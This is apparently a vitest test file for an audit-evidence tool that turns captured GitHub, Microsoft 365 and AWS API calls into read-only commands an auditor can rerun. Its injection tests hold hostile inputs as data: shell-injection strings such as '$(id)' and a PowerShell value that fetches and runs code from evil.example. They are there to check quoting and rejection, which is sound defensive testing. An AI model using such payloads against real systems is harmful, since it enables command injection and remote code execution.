import { execFileSync } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { collectors } from '../../collectors/index.ts';
import { controls } from '../../controls/index.ts';
import { digest } from '../../evidence-model/digest.ts';
import type { CaptureLine } from '../../evidence-model/snapshot.ts';
import { observations, procedureFiles } from '../../exports/files/reperform.ts';
import type { Judgement } from '../../exports/judge.ts';
import { commandOf } from '../../exports/reperform/command.ts';
import { chosen } from '../../exports/sample/selection.ts';
import { demoFolder } from '../support/demo-folder.ts';
import { filesOf } from '../support/packet-files.ts';

/* What an auditor does again without Exhibit: commands of the vendors' tools that ask what was asked, and only read. */
const demo = demoFolder();

function asked(exchange: Partial<CaptureLine['exchange']>, partition = 'all') {
  return {
    partition,
    exchange: {
      ...{ at: '2026-03-01T02:30:00Z', method: 'GET', url: 'https://api.github.com/', operation: null },
      ...{ input: null, status: 200, contentType: null, date: null, requestId: null, etag: null },
      ...{ durationMs: 1, bytes: 1, artifact: digest(''), withheld: null, redacted: [], failure: null },
      ...exchange,
    } satisfies CaptureLine['exchange'],
  };
}

describe('a command', () => {
  test.each([
    [
      ...['github', asked({ url: 'https://api.github.com/orgs/o/members?per_page=100' })],
      "gh api --method GET --paginate '/orgs/o/members?per_page=100'",
    ],
    [
      ...['github', asked({ url: 'https://ghe.example/api/v3/orgs/o' })],
      'gh api --method GET --paginate --hostname ghe.example /api/v3/orgs/o',
    ],
    [
      ...['github', asked({ method: 'POST', operation: 'query { x }', input: { login: "o'hare" } })],
      String.raw`gh api graphql -f 'query=query { x }' -f 'login=o'\''hare'`,
    ],
    [
      ...['microsoft365', asked({ url: 'https://graph.microsoft.com/v1.0/users?$top=999' })],
      "az rest --method get --headers ConsistencyLevel=eventual --url 'https://graph.microsoft.com/v1.0/users?$top=999'",
    ],
    [...['microsoft365', asked({ operation: 'Get-TransportConfig', input: {} })], 'Get-TransportConfig'],
    [
      ...['microsoft365', asked({ operation: 'TXT', input: { name: '_dmarc.example' } })],
      'dig TXT _dmarc.example',
    ],
    [
      ...[
        'aws',
        asked({ operation: 'wafv2:ListWebACLs', input: { Scope: 'REGIONAL' } }, '236132680385|us-east-2'),
      ],
      `aws wafv2 list-web-acls --region us-east-2 --cli-input-json '{"Scope":"REGIONAL"}'`,
    ],
    [
      ...['aws', asked({ operation: 'iam:ListOpenIDConnectProviders', input: {} })],
      'aws iam list-open-id-connect-providers',
    ],
  ] as [string, ReturnType<typeof asked>, string][])('of %s', (collector, exchange, command) => {
    expect(commandOf(collector, exchange)?.command).toBe(command);
  });

  test('holds whatever a name is, as one word of a shell', () => {
    for (const name of ["'; touch /tmp/x; '", '$(id)', '`id`', 'a b', '\n', '*', '~', '']) {
      const said = commandOf('github', asked({ operation: 'query', input: { login: name } }))!.command;
      const words = execFileSync('sh', ['-c', `printf '<%s>' ${said.replace('gh ', '')}`], {
        encoding: 'utf8',
      });
      expect(words).toBe(`<api><graphql><-f><query=query><-f><login=${name}>`);
    }
  });

  test('is there for every kind of source', () => {
    for (const { id } of collectors) {
      const operation = id === 'aws' ? 'iam:GetAccountSummary' : null;
      expect(commandOf(id, asked({ operation })), id).not.toBeNull();
    }
  });

  test('is not given where what was asked does not look like a question, whoever wrote that down', () => {
    for (const [collector, operation, input] of [
      ['microsoft365', 'Get-TransportConfig; iex (iwr https://evil.example) #', {}],
      ['microsoft365', 'Set-TransportConfig', {}],
      ['microsoft365', 'Get-Mailbox', { 'Identity; x': 'y' }],
      ['microsoft365', 'AXFR', { name: 'example' }],
      ['github', 'mutation { x }', {}],
      ['github', 'subscription { x }', {}],
      ['aws', 'iam:CreateUser; x', {}],
      ['aws', 'nothing', {}],
    ] as const)
      expect(commandOf(collector, asked({ operation, input })), operation).toBeNull();
    const quoted = commandOf(
      'microsoft365',
      asked({ operation: 'Get-Mailbox', input: { Identity: 'a’; b' } }),
    );
    expect(quoted?.command).toBe("Get-Mailbox -Identity 'a’’; b'");
  });
});

test('what is to be looked at bears on tests that there are', () => {
  const ids = controls.map(({ id }) => id);
  for (const { controls: named, collector } of observations) {
    expect(ids).toEqual(expect.arrayContaining(named));
    expect(collectors.map(({ id }) => id)).toContain(collector);
  }
});

test('a packet has a command for each dataset that was asked for, and a procedure for each test', async () => {
  const files = await filesOf(demo().packet('soc2-type1'));
  const commands: Record<string, string>[] = parse(files.get('data/reperform/commands.csv')!, {
    columns: true,
  });
  const coverage: Record<string, string>[] = parse(files.get('data/coverage.csv')!, { columns: true });
  const told = new Set(commands.map(({ source, dataset }) => `${source} ${dataset}`));
  expect(told.size).toBe(commands.length);
  expect(told.size).toBeGreaterThan(
    0.9 * new Set(coverage.map(({ source, dataset }) => `${source} ${dataset}`)).size,
  );
  for (const { command } of commands)
    expect(command).toMatch(
      /^(gh api (--method GET|graphql)|az rest --method get|dig |Get-|aws [a-z0-9-]+ (get|list|describe|batch-get|generate|simulate|head|lookup|search|scan)|aws sts)/,
    );
  const procedures: Record<string, string>[] = parse(files.get('data/reperform/procedures.csv')!, {
    columns: true,
  });
  expect(new Set(procedures.map(({ control }) => control))).toEqual(new Set(controls.map(({ id }) => id)));
  const readme = files.get('data/reperform/README.md')!.toString();
  expect(readme).toMatch(/^1\. Open: Settings of the organization/m);

  // Where a command was asked of one account of AWS, it says which.
  for (const { command, partition } of commands) {
    const [, region] = / --region (\S+)/.exec(command!) ?? [];
    if (region !== undefined) expect(partition).toMatch(new RegExp(String.raw`^\d{12}\|${region}$`));
  }

  // Nobody is sent to a table that is not there, and whoever leaves or was accepted has one.
  for (const { control, items } of procedures)
    for (const path of items!.split(' | ')) expect([...files.keys()], control).toContain(path);
  const itemsOf = (id: string) => procedures.find(({ control }) => control === id)!['items'];
  expect(itemsOf('leaver-disabled-entra')).toBe('data/company/leavers.csv');
  expect(itemsOf('exceptions-current')).toBe('data/company/exceptions.csv');

  // What the README gives a shell draws the rows that a sample has.
  const [, draw] = /^ {4}(SEED=[^\n]+\n {4}for [^\n]+)$/m.exec(readme)!;
  const drawn = execFileSync('sh', ['-c', draw!], { encoding: 'utf8' });
  const [, seed, rows, count] = /SEED='(.+)'; ROWS=(\d+); COUNT=(\d+)/.exec(draw!)!;
  expect(drawn.trim().split('\n').map(Number)).toEqual(
    chosen({ by: 'seed', seed: seed!, count: Number(count) }, Number(rows)),
  );
});

test('of what nothing was read, items are where their verdicts are', () => {
  const judgement = { datasets: [], earlier: [] } as unknown as Judgement;
  const files = new Map(procedureFiles({ judgement }).map((each) => [each.id, each.files]));
  expect(files.get('merged-changes-reviewed')).toEqual(['data/results/verdicts.csv']);
  expect(files.get('leaver-disabled-entra')).toEqual(['data/company/leavers.csv']);
});
